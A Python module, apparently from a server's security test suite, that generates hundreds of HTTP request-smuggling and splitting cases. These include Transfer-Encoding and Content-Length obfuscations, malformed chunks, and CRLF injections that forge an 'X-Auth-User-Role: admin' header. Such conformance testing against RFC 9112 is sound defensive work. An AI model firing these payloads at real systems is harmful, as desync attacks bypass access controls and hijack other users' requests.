"""Where one request ends and the next begins: what two programs may tell differently, so that a request travels inside
another one's body and is checked by nobody.

After the catalogues of Linhart et al. 2005, Kettle 2019 to 2025 (desync) and Gil 2021 (chunk extensions), and RFC 9112
§6, §7, §11.2, which says what each of them should be answered with.
"""

from collections.abc import Iterator

from .form import ADA, Attack, Text, asks, attack, chunked, get, lines, post, raw, smuggled

SMUGGLED = smuggled()
WHOLE = b"0\r\n\r\n" + SMUGGLED
"""To whom it is chunked it ends before the smuggled request; to whom it has a length, behind it."""

TE = "Transfer-Encoding: chunked"

# Each is meant to be seen by one of two programs only.
CODINGS: dict[str, list[Text]] = {
    "plain": [TE],
    "a space before the colon": ["Transfer-Encoding : chunked"],
    "a tab before the colon": ["Transfer-Encoding\t: chunked"],
    "no space": ["Transfer-Encoding:chunked"],
    "a tab": ["Transfer-Encoding:\tchunked"],
    "a vertical tab": ["Transfer-Encoding:\x0bchunked"],
    "a form feed": ["Transfer-Encoding: \x0cchunked"],
    "NUL": ["Transfer-Encoding: \0chunked"],
    "NUL behind": ["Transfer-Encoding: chunked\0"],
    "CR behind": ["Transfer-Encoding: chunked\r"],
    "a space behind": ["Transfer-Encoding: chunked "],
    "a tab behind": ["Transfer-Encoding: chunked\t"],
    "a semicolon": ["Transfer-Encoding: chunked;"],
    "a parameter": ["Transfer-Encoding: chunked;q=0"],
    "a comma": ["Transfer-Encoding: chunked,"],
    "a comma before": ["Transfer-Encoding: ,chunked"],
    "identity behind": ["Transfer-Encoding: chunked, identity"],
    "identity before": ["Transfer-Encoding: identity, chunked"],
    "gzip before": ["Transfer-Encoding: gzip, chunked"],
    "gzip": ["Transfer-Encoding: gzip"],
    "identity": ["Transfer-Encoding: identity"],
    "empty": ["Transfer-Encoding:"],
    "xchunked": ["Transfer-Encoding: xchunked"],
    "chunkedx": ["Transfer-Encoding: chunkedx"],
    "quoted": ['Transfer-Encoding: "chunked"'],
    "in single quotes": ["Transfer-Encoding: 'chunked'"],
    "mixed case": ["tRaNsFeR-eNcOdInG: cHuNkEd"],
    "twice": [TE, TE],
    "and identity": [TE, "Transfer-Encoding: identity"],
    "identity and": ["Transfer-Encoding: identity", TE],
    "and something": [TE, "Transfer-Encoding: x"],
    "something and": ["Transfer-Encoding: x", TE],
    "and gzip": [TE, "Transfer-Encoding: gzip"],
    "chunked twice in one": ["Transfer-Encoding: chunked, chunked"],
    "folded": ["Transfer-Encoding:", " chunked"],
    "folded by a tab": ["Transfer-Encoding:", "\tchunked"],
    "folded after": [TE, " x"],
    "folded into another": ["X-Ignored: x", " Transfer-Encoding: chunked"],
    "a space before the name": [" Transfer-Encoding: chunked"],
    "underscores": ["Transfer_Encoding: chunked"],
    "dots": ["Transfer.Encoding: chunked"],
    "in a line by LF": ["X-Ignored: x\nTransfer-Encoding: chunked"],
    "in a line by CR": ["X-Ignored: x\rTransfer-Encoding: chunked"],
    "LF in the name": ["Transfer\n-Encoding: chunked"],
    "a long s": ["Transfer-Encoding: chunked", "Tran\u017ffer-Encoding: identity".encode()],
    "a byte": [b"Transfer-Encoding: \xffchunked"],
    "a no-break space": [b"Transfer-Encoding:\xa0chunked"],
    "a line of the same kind": ["Content-Encoding: chunked"],
    "nominated": [TE, "Connection: Transfer-Encoding"],
}

# The same for lengths. `{0}` is that of the whole body.
LENGTHS: dict[str, list[str]] = {
    "0, then all": ["Content-Length: 0", "Content-Length: {0}"],
    "all, then 0": ["Content-Length: {0}", "Content-Length: 0"],
    "the same twice": ["Content-Length: {0}", "Content-Length: {0}"],
    "a list": ["Content-Length: 0, {0}"],
    "a list of the same": ["Content-Length: {0}, {0}"],
    "a plus": ["Content-Length: +{0}"],
    "a minus": ["Content-Length: -{0}"],
    "minus nothing": ["Content-Length: -0"],
    "zeros before": ["Content-Length: 000{0}"],
    "hexadecimal": ["Content-Length: 0x0"],
    "octal": ["Content-Length: 00"],
    "a fraction": ["Content-Length: 0.{0}"],
    "an exponent": ["Content-Length: 0e{0}"],
    "an underscore": ["Content-Length: 0_{0}"],
    "a space inside": ["Content-Length: 0 {0}"],
    "a tab inside": ["Content-Length: 0\t{0}"],
    "a tab before": ["Content-Length:\t0"],
    "a vertical tab": ["Content-Length: \x0b0"],
    "NUL": ["Content-Length: 0\0{0}"],
    "words": ["Content-Length: all"],
    "empty": ["Content-Length:"],
    "too large": ["Content-Length: 18446744073709551616"],
    "too large by a little": ["Content-Length: 18446744073709551617{0}"],
    "a space before the colon": ["Content-Length : {0}"],
    "a space before the colon, and 0": ["Content-Length : {0}", "Content-Length: 0"],
    "underscore": ["Content_Length: {0}"],
    "folded": ["Content-Length:", " {0}"],
    "folded after 0": ["Content-Length: 0", " {0}"],
    "folded into another": ["X-Ignored: x", " Content-Length: {0}"],
    "in a line by LF": ["X-Ignored: x\nContent-Length: {0}"],
    "in a line by CR": ["X-Ignored: x\rContent-Length: {0}"],
    "nominated": ["Content-Length: {0}", "Connection: Content-Length"],
    "0": ["Content-Length: 0"],
    "none": [],
    "expected": ["Content-Length: {0}", "Expect: 100-continue"],
    "expected twice": ["Content-Length: {0}", "Expect: 100-continue, 100-continue"],
    "expected oddly": ["Content-Length: {0}", "Expect: x 100-continue"],
    "expected folded": ["Content-Length: {0}", "Expect:", " 100-continue"],
    "a range": ["Content-Length: {0}", "Content-Range: bytes 0-0/1"],
}

# A chunk, up to where its data begins; what follows is `hello` and the end.
CHUNKS: dict[str, bytes] = {
    "0x": b"0x5\r\nhello\r\n",
    "a space": b"5 \r\nhello\r\n",
    "a space before": b" 5\r\nhello\r\n",
    "a tab": b"5\t\r\nhello\r\n",
    "a plus": b"+5\r\nhello\r\n",
    "a minus": b"-5\r\nhello\r\n",
    "zeros": b"0000000000000000000000005\r\nhello\r\n",
    "too large": b"10000000000000005\r\nhello\r\n",
    "very large": b"ffffffffffffffff\r\nhello\r\n",
    "an underscore": b"0_5\r\nhello\r\n",
    "an extension": b"5;a=b\r\nhello\r\n",
    "a quoted extension": b'5;a="\r\n0\r\n\r\n"\r\nhello\r\n',
    "an extension with LF": b"5;\nhello\r\n",
    "an extension with CR": b"5;a\rb\r\nhello\r\n",
    "an extension with NUL": b"5;\0\r\nhello\r\n",
    "a long extension": b"5;" + b"a" * 9000 + b"\r\nhello\r\n",
    "no extension behind the semicolon": b"5;\r\nhello\r\n",
    "LF": b"5\nhello\r\n",
    "LF behind the data": b"5\r\nhello\n",
    "CR": b"5\rhello\r\n",
    "CR CR LF": b"5\r\r\nhello\r\n",
    "a wrong end": b"5\r\nhelloxx",
    "more than told": b"5\r\nhello world\r\n",
    "less than told": b"9\r\nhello\r\n",
    "letters": b"g\r\nhello\r\n",
    "nothing": b"\r\nhello\r\n",
    "hexadecimal in capitals": b"A\r\nhellohello\r\n",
    "NUL": b"5\0\r\nhello\r\n",
}

ENDS: dict[str, bytes] = {
    "as it should": b"0\r\n\r\n",
    "by LF": b"0\n\n",
    "by one LF": b"0\r\n\n",
    "zeros": b"000\r\n\r\n",
    "an extension": b"0;a\r\n\r\n",
    "a space": b"0 \r\n\r\n",
    "a trailer": b"0\r\nX-A: b\r\n\r\n",
    "a trailer that frames": b"0\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n",
    "a trailer by LF": b"0\r\nX-A: b\n\n",
    "a trailer without a colon": b"0\r\nx\r\n\r\n",
    "a request for a trailer": b"0\r\nGET /api/smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
    "a folded trailer": b"0\r\nX-A: b\r\n X-Auth-User-Role: admin\r\n\r\n",
    "CR": b"0\r\r",
    "nothing": b"",
}


def both(path: str) -> Iterator[Attack]:
    """A length and chunks: the length ends behind the smuggled request, or before the chunk that holds it."""
    inner = chunked(SMUGGLED)
    short = inner.index(b"\r\n") + 2
    for name, coding in CODINGS.items():
        yield attack(
            f"CL.TE {name} at {path}", post(path, f"Content-Length: {len(WHOLE)}", *coding, body=WHOLE, stays=True)
        )
        yield attack(f"TE.CL {name} at {path}", post(path, f"Content-Length: {short}", *coding, body=inner, stays=True))
        yield attack(
            f"TE before CL {name} at {path}",
            post(path, *coding, f"Content-Length: {len(WHOLE)}", body=WHOLE, stays=True),
        )
        yield attack(f"TE.0 {name} at {path}", post(path, *coding, body=WHOLE, stays=True))
        yield attack(f"TE in a GET {name} at {path}", asks(f"GET {path} HTTP/1.1", *coding, stays=True, body=WHOLE))
        yield attack(
            f"TE in HTTP/1.0 {name} at {path}",
            asks(
                f"POST {path} HTTP/1.0",
                f"Content-Length: {len(WHOLE)}",
                *coding,
                "Connection: keep-alive",
                stays=True,
                body=WHOLE,
            ),
        )


def lengths(path: str) -> Iterator[Attack]:
    for name, length in LENGTHS.items():
        told = [line.format(len(SMUGGLED)) for line in length]
        for method in ("POST", "GET", "HEAD") if path == "/about" else ("POST",):
            yield attack(
                f"length {name} of a {method} at {path}",
                asks(f"{method} {path} HTTP/1.1", *told, stays=True, body=SMUGGLED),
            )
        yield attack(f"length {name}, and chunks, at {path}", post(path, *told, TE, body=WHOLE, stays=True))


def chunks(path: str) -> Iterator[Attack]:
    for name, chunk in CHUNKS.items():
        yield attack(f"chunk with {name} at {path}", post(path, TE, body=chunk + b"0\r\n\r\n" + SMUGGLED, stays=True))
        yield attack(
            f"chunk with {name} and a request in it at {path}",
            post(path, TE, body=chunk.replace(b"hello", SMUGGLED, 1) + b"0\r\n\r\n", stays=True),
        )
    for name, end in ENDS.items():
        yield attack(
            f"last chunk {name} at {path}", post(path, TE, body=b"5\r\nhello\r\n" + end + SMUGGLED, stays=True)
        )


def splitting(path: str) -> Iterator[Attack]:
    """A request line or a value that holds the end of a line, encoded or as it is."""
    inject = "X-Auth-User-Role: admin"
    for name, mark in {
        "%0d%0a": "%0d%0a",
        "%0a": "%0a",
        "%0d": "%0d",
        "%E5%98%8A%E5%98%8D": "%E5%98%8A%E5%98%8D",
        "LF": "\n",
        "CR": "\r",
        "%00": "%00",
        "%23%0a": "%23%0a",
    }.items():
        yield attack(f"{name} in the path of {path}", get(f"{path}/{mark}{inject}{mark}"))
        yield attack(f"{name} in the query of {path}", get(f"{path}?x={mark}{inject}{mark}"))
        yield attack(f"{name} and a version in the path of {path}", get(f"{path}%20HTTP/1.1{mark}{inject}{mark}X:"))
        yield attack(
            f"{name} and a request in the path of {path}",
            get(f"{path}%20HTTP/1.1{mark}Host:%20x{mark}{mark}GET%20/api/smuggled%20HTTP/1.1{mark}"),
        )
        yield attack(
            f"{name} in a value at {path}", get(path, f"X-A: b{mark}{inject}", f"Referer: http://x/{mark}{inject}")
        )
        yield attack(f"{name} in the host at {path}", get(path, host=f"app.example{mark}{inject}"))
        yield attack(f"{name} in the method at {path}", asks(f"GET{mark}{inject} {path} HTTP/1.1"))


def pipelines() -> Iterator[Attack]:
    for path in ("/about", "/api/x", "/api/auth/get-session", "/dashboard/x"):
        yield attack(f"a request behind {path}", get(path, stays=True) + SMUGGLED)
        yield attack(f"ten requests behind {path}", get(path, stays=True) + SMUGGLED * 10)
        yield attack(f"a request behind {path} that closes", get(path) + SMUGGLED)
        yield attack(
            f"a request behind an empty body at {path}", post(path, "Content-Length: 0", body=SMUGGLED, stays=True)
        )
        yield attack(f"a request behind HEAD at {path}", asks(f"HEAD {path} HTTP/1.1", stays=True) + SMUGGLED)
        yield attack(f"a request behind CONNECT at {path}", asks(f"CONNECT {path} HTTP/1.1", stays=True) + SMUGGLED)
        yield attack(
            f"a request behind a CONNECT to a host, {path}",
            asks("CONNECT app.example:80 HTTP/1.1", stays=True) + get(path, stays=True) + SMUGGLED,
        )
        yield attack(
            f"a request behind HTTP/1.0 at {path}",
            asks(f"GET {path} HTTP/1.0", "Connection: keep-alive", stays=True) + SMUGGLED,
        )
        yield attack(f"a request behind HTTP/0.9 at {path}", lines(f"GET {path}") + SMUGGLED)
        yield attack(f"empty lines before a request at {path}", b"\r\n\r\n" + get(path, stays=True) + b"\n" + SMUGGLED)
        yield attack(f"a request after the answer to {path}", get(path, stays=True), SMUGGLED)
        yield attack(
            f"half a body at {path}, and the rest later",
            post(path, "Content-Length: 10", body=b"hello", stays=True),
            b"hello" + SMUGGLED,
        )
        yield attack(
            f"a body that was expected at {path}",
            post(path, f"Content-Length: {len(SMUGGLED)}", "Expect: 100-continue", body=b"", stays=True),
            SMUGGLED,
        )
        yield attack(
            f"TRACE with a body at {path}",
            asks(f"TRACE {path} HTTP/1.1", f"Content-Length: {len(SMUGGLED)}", stays=True, body=SMUGGLED),
        )
        yield attack(
            f"a value that folds into the next request at {path}",
            get(path, b"X-A: " + ADA, stays=True)[:-2] + b" " + SMUGGLED,
        )
        yield attack(
            f"half a head at {path}", raw(f"GET {path} HTTP/1.1\r\nHost: app.example\r\nX-Auth-User-Role: admin\r\nX-")
        )


BODIES = [one for path in ("/about", "/api/x") for make in (both, lengths, chunks) for one in make(path)]
LINES = [*(one for path in ("/about", "/api/x", "/dashboard/x") for one in splitting(path)), *pipelines()]
